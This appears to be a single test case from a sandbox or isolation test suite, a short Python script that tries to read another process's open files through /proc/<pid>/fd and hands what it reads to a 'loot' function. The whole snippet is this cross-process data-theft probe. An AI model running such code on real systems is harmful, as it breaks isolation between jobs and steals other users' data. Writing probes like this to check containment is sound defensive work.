# kind: other_jobs
# tries: Another process's open file by its descriptor
# control: none

import os

for fd in range(3, 20):
    try:
        with open(f"/proc/{VICTIM['pid']}/fd/{fd}") as file:
            loot(file.read(200))
            break
    except (OSError, UnicodeDecodeError) as error:
        print(fd, error)
